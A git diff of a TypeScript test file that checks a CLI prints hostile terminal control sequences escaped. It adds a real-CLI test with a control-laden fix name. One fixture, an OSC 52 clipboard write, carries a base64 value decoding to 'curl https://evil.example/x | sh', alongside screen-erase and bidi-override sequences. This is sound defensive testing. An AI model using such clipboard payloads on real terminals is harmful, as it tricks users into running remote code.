@@ -1,9 +1,10 @@
 /**
  * Attack: text from a node or an admin carrying OSC 52 (writes the clipboard), CSI 2J (erases the screen), a C1
- * CSI, a carriage return that overwrites the line and a bidirectional override, printed by `history`, `pairs`
- * and `fix`: a stored run's `by` and an unsaved pair's name, a ~/.ssh/config Host entry, a pair's host and
- * tags, a fix's step output, result and re-check lines. None of it reaches the terminal raw: every control
- * character shows as a visible escape, and `--format json` carries them as JSON `\u` escapes.
+ * CSI, a carriage return that overwrites the line and a bidirectional override, printed by `history`, `pairs`,
+ * `fix` and `ack`: a stored run's `by` and an unsaved pair's name, a ~/.ssh/config Host entry, a pair's target,
+ * tags and name, a fix's plan, step output, result and re-check lines, an ad-hoc fix's name (through the real
+ * CLI), an acknowledgement's reason. None of it reaches the terminal raw: every control character shows as a
+ * visible escape, and JSON output (these commands and `check`) carries them as JSON `\u` escapes.
  */
 import { readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
@@ -19,6 +20,7 @@ import { printReport } from '../../src-main/cli/commands/check'
 import { openAppStore } from '../../src-main/main/store/app-store'
 import { SessionSecretStore } from '../../src-main/main/secrets/session-store'
 import { useTempDir } from '../db/temp'
+import { cli } from './helpers'
 import { reportWithSecrets } from '../history/fixture-report'
 
 const OSC52 = '\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07'
@@ -180,6 +182,32 @@ describe('fix on a terminal', () => {
     expect(lines[0].startsWith('  primary> ha.log: ')).toBe(true)
     expect(lines.find((l) => l.startsWith(`  ${check.id}: fail — node says `))).toBeDefined()
   })
+
+  it('the real CLI: an ad-hoc fix named with control sequences (not validated like a saved pair) prints it escaped', async () => {
+    const home = tempDir()
+    const r = await cli(
+      [
+        'fix',
+        'fix.rerun-dodirect',
+        '--primary',
+        '127.0.0.1:1',
+        '--secondary',
+        '127.0.0.1:2',
+        '--name',
+        `lab${HOSTILE}`,
+        '--password-env',
+        'PW',
+        '--dry-run',
+        '--no-save'
+      ],
+      { NSM_HA_DOCTOR_HOME: home, PW: 'x' }
+    )
+    // nothing listens on ports 1 and 2: the checks run (every one unknown) and the fix stops, exit 3
+    expect(r.code).toBe(3)
+    expect(r.stdout).toMatch(/^running the checks on lab/)
+    expect(rawControls(r.stdout + r.stderr)).toEqual([])
+    expectVisible(r.stdout)
+  }, 60_000)
 
   it('history, pairs, fix and ack print only through the terminal-safe helpers (say, sayError, sayJson)', () => {
     for (const file of ['history', 'pairs', 'fix', 'ack']) {
